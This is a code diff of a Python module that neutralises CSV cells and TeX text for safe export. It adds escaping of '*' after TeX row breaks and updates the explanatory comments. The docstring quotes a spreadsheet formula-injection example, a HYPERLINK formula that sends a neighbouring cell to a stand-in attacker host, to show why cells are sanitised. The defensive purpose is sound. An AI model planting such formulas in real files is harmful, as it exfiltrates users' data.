@@ -8,8 +8,9 @@ text into actions:
   ``=HYPERLINK("http://evil.example/?"&A1, "x")`` sends a neighbouring cell away. OWASP's
   advice, followed here: put a single quote before such a cell, which spreadsheets show as text.
 - TeX reads ``\\ & % $ # _ { } ~ ^`` as commands, ``[`` right after ``\\\\`` or a command as
-  an optional argument, and a non-ASCII character as whatever the input encoding makes of it
-  (pdflatex with an old setup stops; ``U+202E`` would silently reverse the text after it).
+  an optional argument (and ``*`` after ``\\\\`` as its star), and a non-ASCII character as
+  whatever the input encoding makes of it (pdflatex with an old setup stops; ``U+202E`` would
+  silently reverse the text after it).
 
 :func:`csv_cell` and :func:`tex_text` make a cell inert in each. Pure string functions; every
 CSV the project writes (``publish``, ``Store.export``, the app's download buttons) and every
@@ -119,8 +120,9 @@ def _is_text(kind: Any) -> bool:
     return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind))
 
 
-# TeX's special characters, each as a command that prints it. ``[`` and ``]`` are braced so that
-# a cell starting with ``[`` after ``\\`` (a new row) is never an optional argument.
+# TeX's special characters, each as a command that prints it. ``[``, ``]`` and ``*`` are braced
+# so that a cell starting with one after ``\\`` (a new row) is never its optional argument or
+# its star (LaTeX looks for both past spaces and the line end).
 _TEX_SPECIAL = {
     "\\": r"\textbackslash{}",
     "{": r"\{",
@@ -138,6 +140,7 @@ _TEX_SPECIAL = {
     '"': r"\textquotedbl{}",
     "[": "{[}",
     "]": "{]}",
+    "*": "{*}",
 }
 # Combining accents with a plain-TeX accent command (after NFD decomposition).
 _TEX_ACCENTS = {
@@ -184,7 +187,8 @@ def tex_text(text: object) -> str:
     letters as accent commands, anything else as its code point.
 
     Formula, per character after NFD decomposition: an ASCII special (``\ { } $ & # % _ ^ ~ <
-    > | "``) → the command that prints it; ``[`` → ``{[}`` and ``]`` → ``{]}``; a letter
+    > | "``) → the command that prints it; ``[`` → ``{[}``, ``]`` → ``{]}`` and ``*`` → ``{*}``
+    (so ``\\`` before a cell never reads its first character as an argument); a letter
     followed by combining accents → ``\'{e}``-style accent commands; ß, æ, ø, œ, ł, dashes and
     curly quotes → their TeX spelling; other ASCII printable characters as they are; anything
     else (bidi controls such as U+202E, control characters, other scripts, emoji) →
